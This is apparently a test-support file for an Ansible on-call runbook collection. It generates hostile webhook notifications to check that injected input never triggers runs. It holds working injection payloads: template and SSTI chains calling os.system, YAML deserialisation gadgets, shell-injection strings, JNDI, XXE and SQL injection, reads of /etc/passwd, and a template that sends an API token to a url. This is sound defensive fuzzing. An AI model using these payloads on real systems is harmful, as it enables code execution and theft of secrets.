# Copyright: (c) 2026, oncall.runbooks maintainers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Notifications that mean harm: every field of one with every kind of attack in it."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count
from typing import Any

from ansible_collections.oncall.runbooks.tests.support.serving import alert, notification

LONGEST_TEXT = 16_384


@dataclass(frozen=True)
class Hostile:
    """A notification.

    Attributes:
        name: what it tries, and where.
        body: as it is sent.
        fingerprint: of its one alert that could lead to a run.
        host: the one host that this alert names in a way that is right; "" where it names none, and may lead to no run.
    """

    name: str
    body: bytes
    fingerprint: str
    host: str = ""


def templates(file: str, url: str) -> list[str]:
    """Texts that some engine would take for an order to make ``file`` or to ask ``url``."""
    run = f"touch {file}"
    return [
        f"{{{{ lookup('pipe', '{run}') }}}}",
        f"{{{{ lookup('ansible.builtin.pipe', '{run}') }}}}",
        f"{{{{ query('pipe', '{run}') }}}}",
        f"{{{{lookup('url','{url}')}}}}",
        f"{{{{ lookup('ansible.builtin.url', '{url}/' ~ lookup('env', 'SOME_API_TOKEN')) }}}}",
        f"{{{{ lookup('template', '/dev/null') }}}}{{{{ lookup('file', '/etc/passwd') }}}}{{{{ lookup('pipe', '{run}') }}}}",
        f"{{% set x = lookup('pipe', '{run}') %}}{{{{ x }}}}",
        f"{{% if lookup('pipe', '{run}') %}}a{{% endif %}}",
        f"{{%- for x in query('pipe', '{run}') -%}}{{{{ x }}}}{{%- endfor -%}}",
        "{% include '/etc/passwd' %}" + f"{{{{ lookup('pipe', '{run}') }}}}",
        f"{{# #}}{{{{ cycler.__init__.__globals__.os.popen('{run}').read() }}}}",
        f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{{{{ self.__init__.__globals__.__builtins__.__import__('os').system('{run}') }}}}",
        f"{{{{ hostvars['localhost'] }}}}{{{{ groups['all'] | map('extract', hostvars) | list }}}}{{{{ lookup('pipe', '{run}') }}}}",
        f"{{{{ '{{{{' }}}} lookup('pipe', '{run}') {{{{ '}}}}' }}}}",
        f"{{\u200b{{ lookup('pipe', '{run}') }}}}",
        f"#jinja2: variable_start_string:'[['\n[[ lookup('pipe', '{run}') ]]",
        f"!unsafe \"{{{{ lookup('pipe', '{run}') }}}}\"",
        f"!vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  {{{{ lookup('pipe', '{run}') }}}}",
        f'!!python/object/apply:os.system ["{run}"]',
        f"!!python/object/new:subprocess.Popen [[touch, {file}]]",
        f'a: !!python/name:os.system\nb: &x [*x, "{run}"]',
        f"'\n- hosts: all\n  tasks: [{{shell: {run}}}]\n'",
        f"$({run})",
        f"`{run}`",
        f"; {run} #",
        f"' && {run} && '",
        f'"; {run}; "',
        f"|{run}|",
        f"\n{run}\n",
        f"%0a{run}",
        f"${{jndi:{url}}}",
        f"<!DOCTYPE x [<!ENTITY e SYSTEM '{url}'>]><x>&e;</x>",
        f"<img src={url}>[x]({url})",
        f"__import__('os').system('{run}')",
        f"@{file}",
        f"--extra-vars=@{file} -e x=y --connection=local --module-path=/",
    ]


TERMINAL = [
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\x9b2J",
    "\x7f\x08\x08",
    "a\rb",
    "\u202eesrever\u202c",
    "\u2028\u2029\x85",
    "\x0e\x0f",
]
SQL = [
    "'; DROP TABLE oncall_episodes; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "%",
    "_",
    "\\'; DELETE FROM oncall_inbox; --",
    "$1 ? :id %(id)s %s",
]
ODD = [
    "", " ", "\0", "a\0b", "\n", "\t", "\ufeff", "\u200b", "\ufffd", "\ufffe", "\U0010ffff", "\U0001f600", "e\u0301" * 50, "None", "null",
    "true", "no", "1e3", "0x10", "0o17", "1_000", "-1", "NaN", "Infinity", "[]", "{}", "~", "*", "\\", "\\u0000", "x" * 1_000_000,
    "a\r\nX-Evil: 1\r\n\r\nHTTP/1.1 200 OK", "../../../../etc/passwd", "..\\..\\windows", "/dev/stdin", "file:///etc/passwd", "%00", "%2e%2e%2f",
]  # fmt: skip
OWN_NAMES = [
    "ansible_connection", "ansible_host", "ansible_python_interpreter", "ansible_ssh_common_args", "ansible_become_exe", "__ansible_unsafe",
    "__ansible_vault", "__ansible_type", "ansible_", "meta", "hostvars", "groups", "vars", "omit", "environment", "inventory_hostname", "item",
    "run_max_risk", "run_plan", "system_services", "cache_extra_causes", "a.b", "a['b']", "$ref", "__proto__", "__class__", "-e", "--limit",
]  # fmt: skip


def no_hosts(first: str, second: str, group: str) -> list[str]:
    """Texts that Ansible, a shell or a person might take for a host or several, and that are the exact name of none."""
    return [
        "all", "ungrouped", group, "*", "?", f"{first[0]}*", f"*{first}", f"{first}*", f"~{first[0]}.*", f"~{first}|{second}", f"{first},{second}",
        f"{first}, {second}", f"{first}:{second}", f"{first};{second}", f"{first} {second}", f"{first}:&{group}", f"{first}:!{second}", f"all:!{second}",
        f"!{first}", f"&{group}", "@/etc/hosts", f"@{first}", f"{first[:-1]}[0:2]", f"{first[:-1]}[0]", f"{group}[0]", f"{group}[0:1]", "all[0]", "all[-1]",
        f" {first}", f"{first} ", f"{first}\n", f"\n{first}", f"{first}\0", f"\0{first}", f"{first}\t", f"{first}\r\n", f"{first}\n{second}",
        f"\u202e{first}", f"{first}\u202e", f"{first}\u200b", f"\ufeff{first}", f"{first}\u0301", first.upper(), first.title(),
        "".join(chr(ord(one) + 0xFEE0) for one in first), first.replace("0", "\u041e"), first.replace("0", "O"), first.replace("h", "\u04bb"),
        f"{first}.", f".{first}", f"{first}.example", f"{first}:", f":{first}", f"{first}:65536", f"{first}:099999", f"{first}:-1", f"{first}:1e3",
        f"{first}:\u0663", f"{first}:6379:6379", f"{first}:6379,{second}", f"{first}:6379\n", f"[{first}]", f"[{first}]:6379", f"[{first}", f"{first}]",
        "[]", "[]:1", ":", ",", f"{first},", f",{first}", "::1", "[::1]:6379", "127.0.0.1", "127.0.0.1:6379", "localhost", "localhost,", "0.0.0.0",
        f"root@{first}", f"{first}@localhost", f"http://{first}/", f"http://{first}:6379", f"//{first}", f"ssh://{first}", f"{first}/..", f"../{first}",
        f"./{first}", f"{first}%00", f"{first}%0a", f"%68{first[1:]}", f"{first}\\n", f"'{first}'", f'"{first}"', f"-{first}", f"--limit={first}",
        "--limit=all", f"-l{first}", f"-i{first},", f"{first} -e x=y", f"{first} --check", f"{first}#", f"{first}?", f"{first}=1",
        "{{ groups['all'] }}", "{{ inventory_hostname }}", f"{{{{ '{first}' }}}}", f"$({first})", f"`echo {first}`", "$HOSTNAME", "hostvars",
        first * 1000,
    ]  # fmt: skip


def no_runbooks(runbook: str) -> list[str]:
    """Texts that are like the name of the runbook, or that of another one that is not to be run."""
    return [
        f"../{runbook}", f"./{runbook}", f"{runbook}/../db_pool", f"/{runbook}", f"{runbook}/", f"{runbook}.yml", f"playbooks/{runbook}.yml",
        f"oncall.runbooks.{runbook}", f"{runbook}\0", f"{runbook}\n", f" {runbook}", f"{runbook} ", runbook.upper(), runbook.title(),
        runbook.replace("c", "\u0441"), f"{runbook}\u200b", f"{runbook},db_pool", f"{runbook} db_pool", f"{runbook};db_pool", f"{runbook}:", "db_pool",
        "disk_full", "run", "system", "service", "all", "site", "-h", "--help", f"-i x {runbook}", f"{{{{ '{runbook}' }}}}", f"!!str {runbook}",
        f"{runbook}%00", "__init__", "runbooks", "0",
    ]  # fmt: skip


# As they stand in JSON, since Python's own module writes no others.
VALUES = [
    "null", "true", "false", "0", "-0", "1", "-1", "1.5", "1e3", "1e999", "-1e999", "1e-999", "123456789012345678901234567890", "9" * 5000, "[]", "{}",
    '[""]', '{"": ""}', '{"a": {"b": {"c": []}}}', "[[[[[[[[[[]]]]]]]]]]", "NaN", "Infinity", "-Infinity", "undefined", "'x'", "0x10", "01", "+1", ".5",
    "[" * 500 + "]" * 500, "[" * 100_000 + "]" * 100_000, '{"a":' * 100_000 + "1" + "}" * 100_000, '"\\ud800"', '"\\udc00\\ud800"', '"\\x41"', '"\\u12"',
    '"\t"', '"\x00"', '"a', "", "/* */ 1", '{"__ansible_unsafe": "x"}', '{"__ansible_vault": "x"}', '{"$ref": "#"}',
]  # fmt: skip
# What these say is whole JSON of another kind than a text.
WHOLE = {
    "null", "true", "false", "0", "-0", "1", "-1", "1.5", "1e3", "1e999", "-1e999", "1e-999", "123456789012345678901234567890", "9" * 5000, "[]",
    "{}", '[""]', '{"": ""}', "[" * 500 + "]" * 500, '{"a": {"b": {"c": []}}}', "[[[[[[[[[[]]]]]]]]]]", '{"__ansible_unsafe": "x"}', '{"__ansible_vault": "x"}', '{"$ref": "#"}',
}  # fmt: skip
TIMES = [
    "", "now", "0", "1767225600", "2026-01-01", "2026-01-01T00:00:00", "2026-01-01 00:00:00Z", "2026-01-01T00:00Z", "2026-1-1T0:0:0Z", "20260101T000000Z",
    "2026-01-01T00:00:00z", "2026-01-01T00:00:00 Z", "2026-01-01T00:00:00Z\n", "2026-01-01T00:00:00ZZ", "2026-01-01T00:00:00.Z",
    "2026-01-01T00:00:00.0000000001Z", "2026-01-01T00:00:00,5Z", "2026-13-01T00:00:00Z", "2026-02-30T00:00:00Z", "2026-01-01T24:00:00Z",
    "2016-12-31T23:59:60Z", "2026-01-01T00:00:00+24:00", "2026-01-01T00:00:00+0000", "2026-01-01T00:00:00+99:99",
    "0000-01-01T00:00:00Z", "10000-01-01T00:00:00Z", "-2026-01-01T00:00:00Z", "+2026-01-01T00:00:00Z", "2026-W01-1T00:00:00Z",
    "\uff12\uff10\uff12\uff16-01-01T00:00:00Z", "2026-01-01T00:00:00.\u0663Z", "2026-01-01T00:00:00Z\0", "{{ now() }}", "2026-01-01T00:00:00Z'--",
]  # fmt: skip
# Odd, but instants all the same.
INSTANTS = [
    "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+23:59", "0001-01-01T00:00:00-23:59", "9999-12-31T23:59:59.999999999Z", "9999-12-31T23:59:59-23:59",
    "9999-12-31T23:59:59+23:59", "1970-01-01T00:00:00Z", "1969-12-31T23:59:59.5Z", "2038-01-19T03:14:08Z", "2024-02-29T00:00:00-00:00",
]  # fmt: skip
MARKS = [
    "",
    "g",
    "A1",
    "ab ",
    " ab",
    "ab\n",
    "ab\0",
    "a" * 65,
    "a" * 1_000_000,
    "'ab'",
    "ab%",
    "ab_",
    "0x10",
    "-1",
    "1e3\n",
    "\uff11",
    "../ab",
    "ab/ab",
]


class _Corpus:
    """Numbers what it makes, so that an episode tells which notification it is of."""

    def __init__(self, hosts: list[str]) -> None:
        self._hosts, self._numbers = hosts, count()

    def next(self) -> tuple[str, str]:
        """A fingerprint and the host for it."""
        number = next(self._numbers)
        return f"{number:016x}", self._hosts[number % len(self._hosts)]

    def changed(self, name: str, change: Callable[[dict[str, Any]], None], harmless: bool) -> Hostile:
        """A good notification, changed; ``harmless`` where its one alert still names a runbook and a host."""
        mark, host = self.next()
        told = json.loads(notification([alert(f"{host}:6379", fingerprint=mark)]))
        change(told)
        return Hostile(name, json.dumps(told).encode(), mark, host if harmless else "")

    def raw(self, name: str, change: Callable[[bytes], bytes], harmless: bool = False) -> Hostile:
        """The bytes of a good notification, changed."""
        mark, host = self.next()
        body = change(notification([alert(f"{host}:6379", fingerprint=mark)]))
        return Hostile(name, body, mark, host if harmless else "")


def corpus(hosts: list[str], group: str, runbook: str, file: str, url: str) -> Iterator[Hostile]:
    """All of them.

    Args:
        hosts: of the inventory, by their exact names; all of them begin with ``h`` and have a 0 in it.
        group: of the inventory.
        runbook: that may be run.
        file: made by every template that is executed.
        url: asked by every template that is executed.
    """
    made = _Corpus(hosts)
    texts = [*templates(file, url), *TERMINAL, *SQL, *ODD]
    yield from _texts(made, texts)
    yield from _names(made, hosts, group, runbook)
    yield from _values(made)
    yield from _bodies(made, templates(file, url)[0])


def _inside(told: Any, path: tuple[Any, ...]) -> Any:
    """The mapping that the last part of a path is of; made where it is not there."""
    for part in path:
        told = told.setdefault(part, {}) if isinstance(told, dict) else told[part]
    return told


def _put(*path: Any, text: str) -> Callable[[dict[str, Any]], None]:
    def change(told: dict[str, Any]) -> None:
        _inside(told, path[:-1])[path[-1]] = text

    return change


def _without(*path: Any) -> Callable[[dict[str, Any]], None]:
    def change(told: dict[str, Any]) -> None:
        del _inside(told, path[:-1])[path[-1]]

    return change


def _named(*path: Any, text: str) -> Callable[[dict[str, Any]], None]:
    """The text as the name of something."""
    return _put(*path, text, text="x")


def _encoded(encoding: str) -> Callable[[bytes], bytes]:
    return lambda body: body.decode().encode(encoding)


def _cut(part: int, parts: int) -> Callable[[bytes], bytes]:
    return lambda body: body[: len(body) * part // parts]


def _texts(made: _Corpus, texts: list[str]) -> Iterator[Hostile]:
    """Every text in every field that has one."""

    # In these a text is kept for a person, or not looked at.
    for name, put, path, kept in (
        ("annotation", _put, ("alerts", 0, "annotations", "summary"), True),
        ("label", _put, ("alerts", 0, "labels", "note"), True),
        ("alertname", _put, ("alerts", 0, "labels", "alertname"), True),
        ("name of an annotation", _named, ("alerts", 0, "annotations"), True),
        ("name of a label", _named, ("alerts", 0, "labels"), True),
        ("generatorURL", _put, ("alerts", 0, "generatorURL"), False),
        ("groupKey", _put, ("groupKey",), False),
        ("receiver", _put, ("receiver",), False),
        ("common label", _put, ("commonLabels", "runbook"), False),
    ):
        for text in texts:
            harmless = not kept or len(text) <= LONGEST_TEXT
            yield made.changed(f"{name}: {text[:60]!r}", put(*path, text=text), harmless)
    for name, path in (
        ("runbook", ("alerts", 0, "labels", "runbook")),
        ("instance", ("alerts", 0, "labels", "instance")),
        ("status", ("alerts", 0, "status")),
        ("startsAt", ("alerts", 0, "startsAt")),
        ("fingerprint", ("alerts", 0, "fingerprint")),
        ("version", ("version",)),
    ):
        for text in texts:
            # As it happens, this one is a fingerprint.
            if (name, text) != ("fingerprint", "1e3"):
                yield made.changed(f"{name}: {text[:60]!r}", _put(*path, text=text), harmless=False)


def _names(made: _Corpus, hosts: list[str], group: str, runbook: str) -> Iterator[Hostile]:
    """Names of hosts, runbooks, times and fingerprints that are none, and labels of names that Ansible knows."""
    one, labels = ("alerts", 0), ("alerts", 0, "labels")
    for text in no_hosts(hosts[0], hosts[1], group):
        yield made.changed(f"host: {text[:60]!r}", _put(*labels, "instance", text=text), harmless=False)
    for text in no_runbooks(runbook):
        yield made.changed(f"runbook: {text!r}", _put(*labels, "runbook", text=text), harmless=False)
    for text in TIMES:
        yield made.changed(f"time: {text!r}", _put(*one, "startsAt", text=text), harmless=False)
    for text in INSTANTS:
        yield made.changed(f"instant: {text!r}", _put(*one, "startsAt", text=text), harmless=True)
    for text in MARKS:
        yield made.changed(f"fingerprint: {text[:60]!r}", _put(*one, "fingerprint", text=text), harmless=False)
    for name in OWN_NAMES:
        yield made.changed(f"label {name}", _put(*labels, name, text=hosts[1]), harmless=True)
        yield made.changed(f"annotation {name}", _named(*one, "annotations", text=name), harmless=True)
    for gone in ("status", "labels", "startsAt", "fingerprint"):
        yield made.changed(f"without {gone}", _without(*one, gone), harmless=False)
    for gone in ("runbook", "instance"):
        yield made.changed(f"without the label {gone}", _without(*labels, gone), harmless=False)


def _values(made: _Corpus) -> Iterator[Hostile]:
    """Every value that is no text in every field."""
    looked_at = {
        '"status": "firing", "labels"': '"status": @, "labels"',
        '"labels": {"alertname": "RedisDown", ': '"labels": @, "x": {"alertname": "RedisDown", ',
        '"alertname": "RedisDown"': '"alertname": @',
        '"runbook": "cache"': '"runbook": @',
        '"annotations": {"summary": "Redis is down"}': '"annotations": @',
        '"summary": "Redis is down"': '"summary": @',
        '"startsAt": ': '"startsAt": @, "x": ',
        '"fingerprint": ': '"fingerprint": @, "x": ',
        '"version": "4"': '"version": @',
        '"alerts": [': '"alerts": @, "x": [',
        '"alerts": [{': '"alerts": [@], "x": [{',
    }
    for old, new in looked_at.items():
        for value in VALUES:
            harmless = old.startswith('"annotations"') and value in (
                "{}",
                '{"": ""}',
                '{"__ansible_unsafe": "x"}',
                '{"__ansible_vault": "x"}',
                '{"$ref": "#"}',
            )
            yield made.raw(f"{new[:40]} {value[:40]!r}", _replace(old, new.replace("@", value)), harmless)
    for field in ("receiver", "groupLabels", "truncatedAlerts"):
        for value in VALUES:
            told = f'"{field}": {value}, "alerts": ['
            yield made.raw(f"{field} {value[:40]!r}", _replace('"alerts": [', told), harmless=value in WHOLE)


def _replace(old: str, new: str) -> Callable[[bytes], bytes]:
    def change(body: bytes) -> bytes:
        assert body.count(old.encode()) == 1, old
        return body.replace(old.encode(), new.encode())

    return change


def _bodies(made: _Corpus, template: str) -> Iterator[Hostile]:
    """Bodies that are no JSON, or not the JSON that it looks like."""
    evil = json.dumps(template)
    for body in (
        b"", b" ", b"\0", b"{", b"}", b"[", b"null", b"true", b"1", b'"alerts"', b"[]", b"{}", b"[{}]", b'{"alerts": []}', b'{"Alerts": []}',
        b'{"alerts": {}, "version": "4"}', b"{'alerts': []}", b"alerts: []", b"alerts=1&x=2", b"<alerts/>", b"\x80\x04\x95", b"PK\x03\x04",
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"[" * 1_000_000, b"{" * 1_000_000, b'{"alerts":[' * 1000, b" " * 1_000_000, b"\xff" * 1000, b'{"a":' * 200_000,
        b'{"alerts": [%s]}' % b",".join([b"null"] * 10_000), b'{"alerts": [%s]}' % b",".join([b"{}"] * 10_001), b'{"alerts": ["%s"]}' % (b"x" * 1_000_000),
        b'{"alerts": [{"labels": {%s}}]}' % b",".join(b'"%d": "x"' % number for number in range(20_000)),
    ):  # fmt: skip
        yield Hostile(f"body {body[:40]!r}", body, "none")
    for name, encoding in (
        ("UTF-16", "utf-16"),
        ("UTF-16-LE", "utf-16-le"),
        ("UTF-16-BE", "utf-16-be"),
        ("UTF-32", "utf-32"),
        ("EBCDIC", "cp500"),
    ):
        yield made.raw(name, _encoded(encoding))
    for name, change in {
        "a byte order mark": lambda body: b"\xef\xbb\xbf" + body,
        "compressed": gzip.compress,
        "twice": lambda body: body + body,
        "something behind it": lambda body: body + b"x",
        "a NUL behind it": lambda body: body + b"\0",
        "a NUL before it": lambda body: b"\0" + body,
        "a comma too many": lambda body: body[:-1] + b",}",
        "a comment": lambda body: b"/* x */" + body,
        "in a list": lambda body: b"[" + body + b"]",
        "in a text": lambda body: json.dumps(body.decode()).encode(),
        "bytes that are no text, in the host": lambda body: body.replace(b":6379", b"\xff"),
        "bytes that are no text, in an annotation": lambda body: body.replace(b"Redis is down", b"\xed\xa0\x80\xff"),
        "an overlong NUL": lambda body: body.replace(b"Redis is down", b"\xc0\x80"),
        "half of a pair": lambda body: body.replace(b"Redis is down", b"\\ud83d"),
        "a raw line break": lambda body: body.replace(b"Redis is down", b"a\nb"),
        "a raw escape": lambda body: body.replace(b"Redis is down", b"\x1b[2J"),
        "alerts twice, the last one empty": lambda body: body[:-1] + b', "alerts": []}',
        "alerts twice, the last one null": lambda body: body[:-1] + b', "alerts": null}',
        "labels twice": lambda body: body.replace(
            b'"annotations":', b'"labels": {"runbook": "cache", "instance": "all"}, "annotations":'
        ),
        "the host twice": lambda body: body.replace(
            b'"alertname":', b'"alertname": "x", "instance": "h", "Instance":'
        ).replace(b":6379", b":1:2"),
        "an escaped key again": lambda body: body.replace(b'"alertname": "RedisDown"', b'"a": "b"').replace(
            b'6379"', b'6379", "\\u0069nstance": "all"'
        ),
    }.items():
        yield made.raw(name, change)
    for name, change in {
        "the host twice, right the second time": lambda body: body.replace(
            b'"alertname"', b'"instance": "all", "alertname"'
        ),
        "escaped names": lambda body: body.replace(b'"instance"', b'"\\u0069\\u006e\\u0073tance"'),
        "an unknown field": lambda body: body.replace(
            b'"annotations"', b'"playbook": "/etc/passwd", "limit": "all", "extra_vars": {"x": 1}, "annotations"'
        ),
        "a template of its own field": lambda body: body.replace(
            b'"annotations"', b'"hosts": %s, "annotations"' % evil.encode()
        ),
        "spaces": lambda body: b" \r\n\t" + body + b"\n" * 1000,
        "a bad one before it": lambda body: body.replace(
            b'"alerts": [', b'"alerts": [null, {"labels": %s}, ' % evil.encode()
        ),
        "a resolved one that is bad before it": lambda body: body.replace(
            b'"alerts": [', b'"alerts": [{"status": "resolved"}, '
        ),
        "ten thousand that are nothing before it": lambda body: body.replace(
            b'"alerts": [', b'"alerts": [' + b"0," * 9_999
        ),
    }.items():
        yield made.raw(name, change, harmless=True)
    for part in range(1, 20):
        yield made.raw(f"cut off after {part} of 20 parts", _cut(part, 20))
